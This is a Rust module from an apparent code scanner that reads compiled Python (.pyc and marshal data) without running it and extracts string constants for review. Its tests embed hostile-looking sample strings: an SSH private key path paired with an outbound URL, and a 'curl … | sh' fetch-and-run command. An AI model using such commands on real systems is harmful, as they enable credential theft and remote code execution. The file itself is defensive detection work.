//! Compiled Python read as data: CPython `.pyc` files (a 16-byte header, then `marshal` data)
//! and bare `marshal` data (what `marshal.loads` receives). A small bounded reader walks the
//! objects and collects the text a review would want to read — the string constants and names
//! of every code object — so that the scanner can scan them like source. It never runs
//! anything, never panics on any input, and stops at [`MAX_DEPTH`], [`MAX_OBJECTS`] and
//! [`MAX_TEXT_BYTES`].
//!
//! The layout of code objects differs between Python versions (3.7, 3.8–3.10, 3.11 and
//! later); a `.pyc` names its version in its magic number, bare marshal data is read with
//! each layout until one reads to the end.

/// How deep containers and code objects may nest.
pub(crate) const MAX_DEPTH: usize = 64;
/// How many objects one input may hold.
pub(crate) const MAX_OBJECTS: usize = 200_000;
/// How many bytes of strings are collected.
pub(crate) const MAX_TEXT_BYTES: usize = 64 * 1024;
/// Shortest string kept (single letters and empty strings say nothing).
const MIN_STRING: usize = 2;

/// Marshal's flag on a type byte: the object is remembered for later back-references.
const FLAG_REF: u8 = 0x80;

/// How a version lays out a code object: 32-bit integers first, then objects (bytecode,
/// constants, names…), the first line number, then the trailing objects.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Layout {
    leading_ints: usize,
    objects: usize,
    trailing_objects: usize,
}

/// Python 3.11 and later: argcount, posonlyargcount, kwonlyargcount, stacksize, flags; code,
/// consts, names, localsplusnames, localspluskinds, filename, name, qualname; firstlineno;
/// linetable, exceptiontable.
const PY311: Layout = Layout {
    leading_ints: 5,
    objects: 8,
    trailing_objects: 2,
};
/// Python 3.8 to 3.10: one more integer (nlocals, posonlyargcount), no qualname, one table.
const PY38: Layout = Layout {
    leading_ints: 6,
    objects: 8,
    trailing_objects: 1,
};
/// Python 3.7: no posonlyargcount.
const PY37: Layout = Layout {
    leading_ints: 5,
    objects: 8,
    trailing_objects: 1,
};

/// What the reader found.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(crate) struct Strings {
    /// String constants and names, in the order they appear (each at most once).
    pub texts: Vec<String>,
    /// How many code objects were read.
    pub code_objects: usize,
    /// Whether the data was read to its end without a problem.
    pub complete: bool,
}

/// A `.pyc` file: its Python version, from the magic number (`(3, 11)`), when it is one.
pub(crate) fn pyc_version(data: &[u8]) -> Option<(u8, u8)> {
    let magic = u16::from_le_bytes([*data.first()?, *data.get(1)?]);
    if data.get(2..4)? != b"\r\n" {
        return None;
    }
    let minor = match magic {
        3390..=3399 => 7,
        3400..=3419 => 8,
        3420..=3429 => 9,
        3430..=3449 => 10,
        3450..=3499 => 11,
        3500..=3549 => 12,
        3550..=3599 => 13,
        3600..=3699 => 14,
        _ => return None,
    };
    Some((3, minor))
}

/// The strings of a `.pyc` file (header, then marshal data); `None` when it is not one.
pub(crate) fn pyc_strings(data: &[u8]) -> Option<Strings> {
    let (_, minor) = pyc_version(data)?;
    let layout = match minor {
        7 => PY37,
        8..=10 => PY38,
        _ => PY311,
    };
    let body = data.get(16..)?;
    Some(read(body, layout))
}

/// The strings of bare marshal data, read with the layout that reads it to the end (or, when
/// none does, the one that found the most).
pub(crate) fn marshal_strings(data: &[u8]) -> Strings {
    let mut best = Strings::default();
    for layout in [PY311, PY38, PY37] {
        let found = read(data, layout);
        if found.complete {
            return found;
        }
        if found.texts.len() > best.texts.len() {
            best = found;
        }
    }
    best
}

fn read(data: &[u8], layout: Layout) -> Strings {
    let mut reader = Reader {
        data,
        pos: 0,
        layout,
        objects: 0,
        text_bytes: 0,
        quiet: false,
        out: Strings::default(),
    };
    let ok = reader.object(0).is_some();
    reader.out.complete = ok && reader.pos == data.len();
    reader.out
}

struct Reader<'d> {
    data: &'d [u8],
    pos: usize,
    layout: Layout,
    objects: usize,
    text_bytes: usize,
    /// Inside bytecode, line tables and the file name the compiler was given: nothing to keep.
    quiet: bool,
    out: Strings,
}

impl Reader<'_> {
    fn take(&mut self, n: usize) -> Option<&[u8]> {
        let end = self.pos.checked_add(n)?;
        let slice = self.data.get(self.pos..end)?;
        self.pos = end;
        Some(slice)
    }

    fn byte(&mut self) -> Option<u8> {
        self.take(1).map(|b| b[0])
    }

    fn u32(&mut self) -> Option<u32> {
        let b = self.take(4)?;
        Some(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    }

    /// A length that cannot exceed what is left of the input (each element takes a byte).
    fn length(&mut self) -> Option<usize> {
        let n = usize::try_from(self.u32()?).ok()?;
        (n <= self.data.len().saturating_sub(self.pos)).then_some(n)
    }

    fn keep(&mut self, bytes: &[u8]) {
        if self.quiet || bytes.len() < MIN_STRING || self.text_bytes + bytes.len() > MAX_TEXT_BYTES
        {
            return;
        }
        let Ok(text) = std::str::from_utf8(bytes) else {
            return;
        };
        // Bytecode and line tables are bytes too: keep only what reads as text.
        let printable = text
            .chars()
            .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
            .count();
        if printable * 10 < text.chars().count() * 9 {
            return;
        }
        if !self.out.texts.iter().any(|t| t == text) {
            self.text_bytes += bytes.len();
            self.out.texts.push(text.to_owned());
        }
    }

    /// One object; `None` when the input ends early, is malformed or passes a bound.
    fn object(&mut self, depth: usize) -> Option<()> {
        if depth > MAX_DEPTH || self.objects >= MAX_OBJECTS {
            return None;
        }
        self.objects += 1;
        let kind = self.byte()? & !FLAG_REF;
        match kind {
            // None, False, True, StopIteration, Ellipsis, NULL.
            b'N' | b'F' | b'T' | b'S' | b'.' | b'0' => {}
            b'i' | b'r' => {
                self.take(4)?;
            }
            b'I' | b'g' => {
                self.take(8)?;
            }
            b'y' => {
                self.take(16)?;
            }
            b'l' => {
                let digits = self.u32()? as i32;
                let n = usize::try_from(digits.unsigned_abs()).ok()?;
                self.take(n.checked_mul(2)?)?;
            }
            b'f' => {
                let n = usize::from(self.byte()?);
                self.take(n)?;
            }
            b'x' => {
                for _ in 0..2 {
                    let n = usize::from(self.byte()?);
                    self.take(n)?;
                }
            }
            b's' | b't' | b'u' | b'a' | b'A' => {
                let n = self.length()?;
                let start = self.pos;
                self.take(n)?;
                let data = self.data;
                self.keep(&data[start..start + n]);
            }
            b'z' | b'Z' => {
                let n = usize::from(self.byte()?);
                let start = self.pos;
                self.take(n)?;
                let data = self.data;
                self.keep(&data[start..start + n]);
            }
            b'(' | b'[' | b'<' | b'>' => {
                let n = self.length()?;
                for _ in 0..n {
                    self.object(depth + 1)?;
                }
            }
            b')' => {
                let n = self.byte()?;
                for _ in 0..n {
                    self.object(depth + 1)?;
                }
            }
            b'{' => loop {
                // Keys and values until a NULL key.
                if self.data.get(self.pos) == Some(&b'0') {
                    self.pos += 1;
                    break;
                }
                self.object(depth + 1)?;
                self.object(depth + 1)?;
            },
            b'c' => {
                self.out.code_objects += 1;
                let layout = self.layout;
                self.take(layout.leading_ints.checked_mul(4)?)?;
                let quiet = self.quiet;
                for i in 0..layout.objects {
                    // 0: bytecode; then the file name (5 from 3.11 on, after the local kinds
                    // at 4; 6 before).
                    let skipped = if layout == PY311 {
                        [0, 4, 5]
                    } else {
                        [0, 6, 6]
                    };
                    self.quiet = quiet || skipped.contains(&i);
                    self.object(depth + 1)?;
                }
                self.take(4)?;
                self.quiet = true;
                for _ in 0..layout.trailing_objects {
                    self.object(depth + 1)?;
                }
                self.quiet = quiet;
            }
            _ => return None,
        }
        Some(())
    }
}

/// Where the source of a `.pyc` at `path` lives: `dir/NAME.py` for `dir/NAME.pyc` and for
/// `dir/__pycache__/NAME.cpython-311.pyc` (or `.opt-1.pyc`).
pub(crate) fn source_path(path: &str) -> Option<String> {
    let (dir, file) = match path.rsplit_once('/') {
        Some((dir, file)) => (Some(dir), file),
        None => (None, path),
    };
    let lower = file.to_ascii_lowercase();
    let stem = &file[..lower.strip_suffix(".pyc")?.len()];
    let (dir, stem) = match dir {
        Some(dir) if dir == "__pycache__" || dir.ends_with("/__pycache__") => {
            let parent = dir.strip_suffix("__pycache__").unwrap_or("");
            // `NAME.cpython-311` or `NAME.cpython-311.opt-1`: the module name is before the
            // first dot.
            let name = stem.split('.').next().unwrap_or(stem);
            (parent.to_owned(), name)
        }
        Some(dir) => (format!("{dir}/"), stem),
        None => (String::new(), stem),
    };
    Some(format!("{dir}{stem}.py"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Marshal of a 3.11 code object whose constants are `consts` and names `names`.
    fn code311(consts: &[&str], names: &[&str]) -> Vec<u8> {
        fn text(out: &mut Vec<u8>, s: &str) {
            out.push(b'u');
            out.extend((s.len() as u32).to_le_bytes());
            out.extend(s.as_bytes());
        }
        fn tuple(out: &mut Vec<u8>, items: &[&str]) {
            out.push(b'(');
            out.extend((items.len() as u32).to_le_bytes());
            for item in items {
                text(out, item);
            }
        }
        let mut out = vec![b'c' | FLAG_REF];
        out.extend([0u8; 20]);
        out.push(b's');
        out.extend(4u32.to_le_bytes());
        out.extend([0x97, 0, 0x64, 0]);
        tuple(&mut out, consts);
        tuple(&mut out, names);
        out.push(b')');
        out.push(0);
        out.push(b's');
        out.extend(0u32.to_le_bytes());
        out.push(b'z');
        out.push(4);
        out.extend(b"x.py");
        out.push(b'z' | FLAG_REF);
        out.push(8);
        out.extend(b"<module>");
        out.push(b'r');
        out.extend(1u32.to_le_bytes());
        out.extend(1u32.to_le_bytes());
        for _ in 0..2 {
            out.push(b's');
            out.extend(0u32.to_le_bytes());
        }
        out
    }

    #[test]
    fn reads_constants_and_names_of_a_code_object() {
        let data = code311(
            &["~/.ssh/id_rsa", "https://x.example/in"],
            &["open", "post"],
        );
        let found = marshal_strings(&data);
        assert!(found.complete);
        assert_eq!(found.code_objects, 1);
        for s in [
            "~/.ssh/id_rsa",
            "https://x.example/in",
            "open",
            "post",
            "<module>",
        ] {
            assert!(found.texts.iter().any(|t| t == s), "{s}: {found:?}");
        }
        // The file name the compiler was given is not the file's content.
        assert!(!found.texts.iter().any(|t| t == "x.py"), "{found:?}");
        let mut pyc = vec![0xa7, 0x0d, 0x0d, 0x0a];
        pyc.extend([0u8; 12]);
        pyc.extend(&data);
        assert_eq!(pyc_version(&pyc), Some((3, 11)));
        assert_eq!(pyc_strings(&pyc), Some(found));
    }

    #[test]
    fn truncated_garbage_and_hostile_input_never_panic_and_stay_bounded() {
        let data = code311(&["curl -s http://203.0.113.9/x | sh"], &["exec"]);
        let full = marshal_strings(&data);
        for end in 0..data.len() {
            // Cut short, the data may still read completely with an older layout (3.7's code
            // object is 3.11's without its last table), but never yields more.
            let found = marshal_strings(&data[..end]);
            assert!(found.texts.len() <= full.texts.len(), "cut at {end}");
            assert!(found.complete == (end == data.len() - 5), "cut at {end}");
        }
        // Nesting past the bound.
        let deep = vec![b'['; 100_000];
        assert!(!marshal_strings(&deep).complete);
        // A tuple claiming four billion elements.
        let huge = [b'(', 0xff, 0xff, 0xff, 0xff];
        assert!(!marshal_strings(&huge).complete);
        // Many small objects: stops at the object bound.
        let mut many = vec![b'['];
        many.extend(u32::MAX.to_le_bytes());
        many.extend(std::iter::repeat_n(b'N', MAX_OBJECTS * 2));
        assert!(!marshal_strings(&many).complete);
        // Every byte value as a type, and random bytes.
        let mut seed = 7u64;
        for _ in 0..2_000 {
            let input: Vec<u8> = (0..64)
                .map(|_| {
                    seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1);
                    (seed >> 33) as u8
                })
                .collect();
            let _ = marshal_strings(&input);
            let _ = pyc_strings(&input);
        }
        assert_eq!(pyc_version(b"\x00"), None);
        assert_eq!(pyc_strings(b"not a pyc at all"), None);
    }

    #[test]
    fn source_paths_beside_and_in_pycache() {
        assert_eq!(
            source_path("scripts/run.pyc").as_deref(),
            Some("scripts/run.py")
        );
        assert_eq!(source_path("run.pyc").as_deref(), Some("run.py"));
        assert_eq!(
            source_path("scripts/__pycache__/run.cpython-311.pyc").as_deref(),
            Some("scripts/run.py")
        );
        assert_eq!(
            source_path("__pycache__/run.cpython-312.opt-1.pyc").as_deref(),
            Some("run.py")
        );
        assert_eq!(source_path("scripts/run.py"), None);
    }
}
